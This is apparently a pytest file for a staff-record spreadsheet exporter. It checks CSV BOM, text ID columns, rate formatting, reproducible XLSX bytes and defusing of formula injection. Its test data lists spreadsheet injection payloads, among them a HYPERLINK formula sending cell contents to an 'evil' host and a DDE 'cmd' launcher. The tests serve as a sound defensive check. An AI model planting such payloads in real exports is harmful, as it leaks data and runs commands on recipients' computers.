"""The one writer of staff files: BOM, inert formulas, text ID and phone columns, same bytes."""

from __future__ import annotations

import io
import re
import zipfile
from datetime import date

import openpyxl
import pytest

from form_service.reports.spreadsheets import (
    Rate,
    Sheet,
    defuse,
    render_csv,
    render_text,
    render_xlsx,
)

DANGEROUS = [
    '=HYPERLINK("http://evil/?"&A1,"点我")',
    "+cmd|'/c calc'!A1",
    "-2+3",
    "@SUM(1)",
    "\tTAB",
    "\rCR",
]

# XML reads a bare CR back as LF, so the writer stores LF (still inert: quote prefix).
IN_XLSX = [value.replace("\r", "\n") for value in DANGEROUS]

SHEET = Sheet(
    name="台账",
    fieldnames=("姓名", "身份证号", "联系电话", "人数", "完成率", "日期"),
    rows=[
        ["买买提·艾力", "11010519491231002X", "13912345678", 3, Rate(1, 3), date(2011, 8, 31)],
        ["𠀾王", "440524188001010014", "15800001111", 0, Rate(0, None), None],
    ]
    + [[value, "310104197503122014", "13800000000", 1, Rate(2, 2), None] for value in DANGEROUS],
    text_columns=frozenset({"身份证号", "联系电话"}),
)


@pytest.mark.parametrize(
    ("value", "expected"),
    [("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\tx", "'\tx"), ("\rx", "'\rx"),
     ("张三", "张三"), ("a=b", "a=b"), ("", "")],
)  # fmt: skip
def test_defuse_prefixes_only_formula_triggers(value: str, expected: str) -> None:
    assert defuse(value) == expected


def test_rate_is_one_decimal_half_up_and_dash_without_target() -> None:
    assert [str(Rate(1, 3)), str(Rate(1, 8)), str(Rate(3, 2)), str(Rate(0, 0)), str(Rate(5, None))] == [
        "33.3%", "12.5%", "150.0%", "—", "—",
    ]  # fmt: skip


def test_csv_is_utf8_with_bom_and_formulas_are_inert() -> None:
    expected = (
        "\ufeff姓名,身份证号,联系电话,人数,完成率,日期\r\n"
        "买买提·艾力,11010519491231002X,13912345678,3,33.3%,2011-08-31\r\n"
        "𠀾王,440524188001010014,15800001111,0,—,\r\n"
        '"\'=HYPERLINK(""http://evil/?""&A1,""点我"")",310104197503122014,13800000000,1,100.0%,\r\n'
        "'+cmd|'/c calc'!A1,310104197503122014,13800000000,1,100.0%,\r\n"
        "'-2+3,310104197503122014,13800000000,1,100.0%,\r\n"
        "'@SUM(1),310104197503122014,13800000000,1,100.0%,\r\n"
        "'\tTAB,310104197503122014,13800000000,1,100.0%,\r\n"
        '"\'\rCR",310104197503122014,13800000000,1,100.0%,\r\n'
    )
    assert render_csv(SHEET).decode("utf-8") == expected


def test_xlsx_reads_back_with_text_ids_and_no_formulas() -> None:
    book = openpyxl.load_workbook(io.BytesIO(render_xlsx(SHEET)))
    ws = book["台账"]
    values = [[cell.value for cell in row] for row in ws.iter_rows()]
    assert values == [
        ["姓名", "身份证号", "联系电话", "人数", "完成率", "日期"],
        ["买买提·艾力", "11010519491231002X", "13912345678", 3, pytest.approx(0.333), "2011-08-31"],
        ["𠀾王", "440524188001010014", "15800001111", 0, "—", None],
    ] + [[value, "310104197503122014", "13800000000", 1, 1.0, None] for value in IN_XLSX]
    cells = [cell for row in ws.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    for row in ws.iter_rows(min_row=2):
        assert (row[1].data_type, row[1].number_format, row[2].data_type, row[2].number_format) == (
            "s",
            "@",
            "s",
            "@",
        )
        assert row[4].number_format in ("0.0%", "General")
    quoted = [ws.cell(r, 1).value for r in range(1, ws.max_row + 1) if ws.cell(r, 1).quotePrefix]
    assert quoted == IN_XLSX


def test_xlsx_bytes_are_reproducible() -> None:
    data = render_xlsx(SHEET)
    archive = zipfile.ZipFile(io.BytesIO(data))
    # No clock in the file: fixed entry times and document times.
    assert {info.date_time for info in archive.infolist()} == {(2011, 1, 1, 0, 0, 0)}
    core = archive.read("docProps/core.xml").decode()
    assert re.findall(r"<dcterms:(\w+)[^>]*>([^<]+)<", core) == [
        ("created", "2011-01-01T00:00:00Z"), ("modified", "2011-01-01T00:00:00Z"),
    ]  # fmt: skip
    assert render_xlsx(SHEET) == data


def test_text_has_one_block_per_group_with_the_key_column() -> None:
    sheet = Sheet(
        name="x",
        fieldnames=("单位", "指标数", "完成率", "场次"),
        rows=[["黄浦区总工会", 1850, Rate(1, 1850), 2], ["合计", 1850, Rate(1, 1850), 2]],
        title_lines=("标题",),
        groups=(("填报单位", 1), ("技能培训", 2), ("招聘会", 1)),
        notes=("说明",),
    )
    assert render_text(sheet) == (
        "标题\n"
        "\n【技能培训】\n"
        "单位          指标数  完成率\n"
        "------------  ------  ------\n"
        "黄浦区总工会    1850    0.1%\n"
        "合计            1850    0.1%\n"
        "\n【招聘会】\n"
        "单位          场次\n"
        "------------  ----\n"
        "黄浦区总工会     2\n"
        "合计             2\n"
        "\n说明\n"
    )
